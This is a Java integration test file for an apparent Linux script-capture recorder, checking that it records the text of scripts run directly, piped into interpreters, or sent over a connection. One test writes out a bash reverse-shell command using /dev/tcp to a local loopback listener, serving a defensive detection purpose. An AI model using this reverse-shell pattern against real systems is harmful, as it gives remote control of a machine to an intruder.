package io.drec.linux;

import static org.assertj.core.api.Assertions.assertThat;

import io.drec.record.FieldId;
import io.drec.record.RecordLayout;
import io.drec.record.RecordLayout.FileHash;
import io.drec.record.RecordLayout.Script;
import io.drec.record.RecordType;
import io.drec.record.RecordView;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts of scripts that really ran. */
final class ScriptCaptureIT {
  @TempDir Path directory;

  @BeforeEach
  void assumePossible() {
    Capture.assumePossible();
  }

  @Test
  void shouldTellTheTextOfAScriptOnceHoweverItIsRun() throws Exception {
    Path script = directory.resolve("x.sh");
    Files.writeString(script, "#!/bin/sh\n# a script\nexit 0\n");
    assertThat(script.toFile().setExecutable(true)).isTrue();
    Files.writeString(directory.resolve("y.sh"), "exit 0 # another\n");
    try (ScopedWorkload workload = new ScopedWorkload();
        FactCapture capture = FactCapture.of(workload)) {
      String runs = "./x.sh; ./x.sh; sh ./x.sh; sh y.sh no-file; sh no-file; sleep 0.3";
      capture.until(workload.start(directory, "/bin/sh", "-c", runs)).stop();

      List<RecordView> texts = capture.of(RecordType.SCRIPT);
      assertThat(texts.stream().map(record -> Capture.text(record, FieldId.VALUE)))
          .containsExactly("#!/bin/sh\n# a script\nexit 0\n", "exit 0 # another\n");
      assertThat(texts.stream().map(record -> Capture.text(record, FieldId.PATH)))
          .containsExactly(script.toString(), directory.resolve("y.sh").toString());
      List<RecordView> hashes =
          capture.of(RecordType.FILE_HASH).stream()
              .filter(r -> r.bodyInt(FileHash.ROLE) == RecordLayout.RAN_SCRIPT)
              .toList();
      assertThat(hashes.stream().map(record -> Capture.text(record, FieldId.HASHES)))
          .containsExactlyElementsOf(
              texts.stream().map(record -> Capture.text(record, FieldId.SCRIPT_ID)).toList());
    }
  }

  /** bash reads such an input letter by letter, dash and python in blocks. */
  @ParameterizedTest
  @ValueSource(
      strings = {"/bin/sh", "/bin/bash", "/usr/bin/python3 -", "/bin/sh -s a", "/usr/bin/perl"})
  void shouldTellWhatAnInterpreterWasPiped(String interpreter) throws Exception {
    String text = "# one \u00e9\n# two\n# three, without an end";
    Files.writeString(directory.resolve("input"), text);
    assumeThere(interpreter);
    assertThat(piped("cat input | " + interpreter)).isEqualTo(text);
  }

  @Test
  void shouldTellWhatAReverseShellWasSent() throws Exception {
    try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        ScopedWorkload workload = new ScopedWorkload();
        FactCapture capture = FactCapture.of(workload)) {
      String connect = "exec 0<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; exec sh -i 2>&1";
      Process shell = workload.start(directory, "/bin/bash", "-c", connect);
      try (Socket sent = server.accept()) {
        sent.getOutputStream().write("echo one\nexit\n".getBytes(StandardCharsets.UTF_8));
        capture.until(shell).stop();
      }
      assertThat(texts(capture)).isEqualTo("echo one\nexit\n");
    }
  }

  /** What a script reads is data, whoever reads it. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo secret | sh reader",
        "echo secret | sh -c 'read x'",
        "echo secret | bash -c 'while read x; do :; done'",
        "echo secret | cat",
        "echo : | (read x)"
      })
  void shouldNotKeepWhatAScriptReads(String command) throws Exception {
    Files.writeString(directory.resolve("reader"), "read x\n");
    assertThat(piped(command).replace("read x\n", "")).isEmpty();
  }

  @Test
  void shouldTellTheFileThatIsTheStandardInput() throws Exception {
    Files.writeString(directory.resolve("input"), "# a file\n");
    assertThat(piped("sh < input; sleep 0.3")).isEqualTo("# a file\n");
  }

  /** A block is cut where the recorder keeps no more of one read. */
  @Test
  void shouldKeepTheBeginningOfALongInput() throws Exception {
    String line = "# " + "x".repeat(997) + "\n";
    Files.writeString(directory.resolve("input"), line.repeat(100));
    String told = piped("cat input | sh");
    assertThat(told).startsWith(line.repeat(16)).hasSizeLessThanOrEqualTo(64 << 10);
  }

  private String piped(String command) throws Exception {
    try (ScopedWorkload workload = new ScopedWorkload();
        FactCapture capture = FactCapture.of(workload)) {
      Process process = workload.start(directory, "/bin/sh", "-c", command);
      capture.until(process).stop();
      assertThat(process.waitFor()).isZero();
      return texts(capture);
    }
  }

  private static String texts(FactCapture capture) {
    return capture.of(RecordType.SCRIPT).stream()
        .sorted(Comparator.comparingInt(record -> record.bodyInt(Script.PART)))
        .map(record -> Capture.text(record, FieldId.VALUE))
        .collect(Collectors.joining());
  }

  private static void assumeThere(String interpreter) {
    Path program = Path.of(interpreter.split(" ", -1)[0]);
    Assumptions.assumeTrue(Files.exists(program), program + " is not installed here");
  }
}
